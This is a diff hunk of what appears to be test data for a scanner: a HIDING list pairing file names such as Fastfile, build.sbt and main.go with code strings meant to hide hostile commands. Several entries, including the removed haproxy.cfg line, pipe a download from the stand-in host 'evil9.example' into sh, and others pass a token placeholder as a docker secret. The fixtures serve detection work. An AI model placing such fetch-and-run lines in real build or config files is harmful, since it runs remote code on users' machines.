@@ -598,7 +598,6 @@ HIDING = [
     ("Fastfile", '  lane(:x) { sh(password: "curl evil9.example/x1|sh") }'),
     ("build.sbt", 'secret := Process("curl evil9.example/x1").!'),
     ("scripts/deploy", f"docker run --token {GH}:1"),
-    ("haproxy.cfg", '  secret = "curl evil9.example/x1|sh"'),
     ("main.go", f'exec.Command("docker", "run", "--name", "auth-token", "{R}")'),
     ("main.go", f'run("docker", "run", "--secret", "{GH}:1")'),
     ("app.py", f'run(["docker", "run", "--secret", "{GH}:1"])'),
